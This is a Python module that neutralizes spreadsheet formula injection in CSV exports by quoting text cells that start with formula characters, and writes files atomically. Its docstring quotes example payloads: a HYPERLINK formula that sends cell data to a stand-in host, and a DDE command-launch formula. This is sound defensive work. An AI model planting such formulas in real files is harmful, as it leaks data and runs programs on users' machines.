"""CSV files for people: every text cell neutralized against spreadsheet formula injection.

A CSV the project writes for someone to open in a spreadsheet (a DP query result, a quarantine
export) can carry text that came from the CRM: a group label, a name, a ticket subject. A cell
that starts with ``=``, ``+``, ``-`` or ``@`` is run as a formula by Excel, LibreOffice and Google
Sheets (``=HYPERLINK("https://evil.example/?"&A1, "click")`` exfiltrates a neighbouring cell;
``=cmd|' /C calc'!A0`` starts a program through DDE). Following OWASP's "CSV Injection" guidance
and ASVS 5.0 1.2.10, :func:`neutralize` prefixes such a text cell with a single quote ``'``, which
spreadsheets treat as "this is text": the value is shown, never evaluated.

A text cell is neutralized when

* its first character is ``=``, ``+``, ``-``, ``@``, a tab, a carriage return, a line feed or NUL
  (OWASP, ASVS), or one of the full-width forms ``＝ ＋ － ＠`` (some spreadsheet locales read them
  as the ASCII ones); or
* its first character after leading whitespace is one of those (some spreadsheets trim a cell
  before deciding it is a formula, so ``"  =1+1"`` is not safe either).

The rest of the value is kept exactly (the quote is only added), so ``'+1 415 555 0100`` still
reads as the phone number it was. Numbers the project writes as numbers (``int``, ``float``,
``Decimal``, numpy scalars; a negative number included) are not text and are written bare and
unchanged: a spreadsheet reads ``-3.5`` as minus three and a half, not a formula. Missing values
(``None``, NaN, pandas ``NA``/``NaT``) become empty cells. Any other value (a date, a timestamp)
is written as its ``str()`` and neutralized like text.

:func:`write_csv` (rows) and :func:`write_frame` (a pandas DataFrame) write through the standard
:mod:`csv` module, RFC 4180 style: UTF-8, ``\\r\\n`` line ends, every text cell in double quotes
(embedded quotes doubled; embedded delimiters and newlines round-trip; a spreadsheet that splits on
``;`` cannot cut a quoted cell into a new, unneutralized one), numbers bare. The header is
neutralized too. The file is written to a temporary file in the same directory and moved into
place with :func:`os.replace`: a reader sees the old file or the new one, never half of one.

Landing-zone exports and the raw and privacy zones are customer data and are NEVER rewritten
through this module: ``+1 415 ...`` stays as it is there. This module is only for files the
project produces for people to open.
"""

from __future__ import annotations

import csv
import math
import os
import secrets
from collections.abc import Iterable, Sequence
from decimal import Decimal
from pathlib import Path
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: First characters that make a spreadsheet evaluate a cell (ASCII and full-width forms).
FORMULA_PREFIXES = frozenset("=+-@\t\r\n\0＝＋－＠")
#: What is put in front of a dangerous text cell.
QUOTE_PREFIX = "'"

__all__ = ["FORMULA_PREFIXES", "QUOTE_PREFIX", "is_dangerous", "neutralize", "write_csv", "write_frame"]


def is_dangerous(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula (see the module docstring)."""
    if not text:
        return False
    if text[0] in FORMULA_PREFIXES:
        return True
    stripped = text.lstrip()
    return bool(stripped) and stripped[0] in FORMULA_PREFIXES


def _is_missing(value: Any) -> bool:
    if value is None:
        return True
    if isinstance(value, float):
        return math.isnan(value)
    if isinstance(value, Decimal):
        return value.is_nan()
    return type(value).__name__ in ("NAType", "NaTType")  # pandas.NA, pandas.NaT (no pandas import)


def neutralize(value: Any) -> Any:
    """The cell to write for ``value``: ``""`` when missing; the number itself for a number
    (``int``, ``float``, ``Decimal``, ``bool``; numpy scalars become their Python value); otherwise
    ``str(value)``, prefixed with ``'`` when a spreadsheet could run it as a formula.

    >>> neutralize("=1+1"), neutralize("+1 415 555 0100"), neutralize(-3), neutralize(None)
    ("'=1+1", "'+1 415 555 0100", -3, '')
    """
    if type(value).__module__ == "numpy" and hasattr(value, "item"):
        value = value.item()
    if _is_missing(value):
        return ""
    if isinstance(value, int | float | Decimal):  # bool is an int: written True / False
        return value
    text = value if isinstance(value, str) else str(value)
    return QUOTE_PREFIX + text if is_dangerous(text) else text


def _open_tmp(path: Path, mode: int) -> tuple[Path, int]:
    """A new temporary file beside ``path`` (``mode`` minus the umask), exclusive."""
    for _ in range(100):
        tmp = path.with_name(f".{path.name}.{os.getpid()}.{secrets.token_hex(4)}.tmp")
        try:
            return tmp, os.open(tmp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, mode)
        except FileExistsError:  # pragma: no cover - 32 random bits
            continue
    raise FileExistsError(f"cannot create a temporary file beside {path}")  # pragma: no cover


def write_csv(
    path: str | os.PathLike[str], header: Sequence[Any], rows: Iterable[Sequence[Any]], *, mode: int | None = None
) -> int:
    """Write ``header`` and ``rows`` to ``path`` as a neutralized CSV (see the module docstring);
    return the number of data rows.

    Atomic: written to a temporary file in the same directory, then moved over ``path``. ``mode``
    sets the file's permission bits exactly (pass ``0o600`` for a file that may hold personal
    data); by default they are ``0o666`` minus the umask, like any new file. Every row must have as many cells
    as the header (``ValueError`` otherwise, and ``path`` is left as it was)."""
    target = Path(path)
    width = len(header)
    tmp, fd = _open_tmp(target, 0o600 if mode is not None else 0o666)
    count = 0
    try:
        with os.fdopen(fd, "w", encoding="utf-8", newline="") as fh:
            writer = csv.writer(fh, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\r\n")
            writer.writerow([_text(h) for h in header])
            for row in rows:
                cells = [neutralize(v) for v in row]
                if len(cells) != width:
                    raise ValueError(f"row {count + 1} has {len(cells)} cells, the header {width}")
                writer.writerow(cells)
                count += 1
            fh.flush()
            os.fsync(fh.fileno())
        if mode is not None:
            os.chmod(tmp, mode)
        os.replace(tmp, target)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    return count


def _text(value: Any) -> str:
    """A header cell: always text (a numeric column name is written quoted), neutralized."""
    cell = neutralize(value)
    return cell if isinstance(cell, str) else str(cell)


def write_frame(path: str | os.PathLike[str], frame: pd.DataFrame, *, mode: int | None = None) -> int:
    """:func:`write_csv` for a pandas DataFrame: its column names as the header, no index."""
    return write_csv(path, list(frame.columns), frame.itertuples(index=False, name=None), mode=mode)
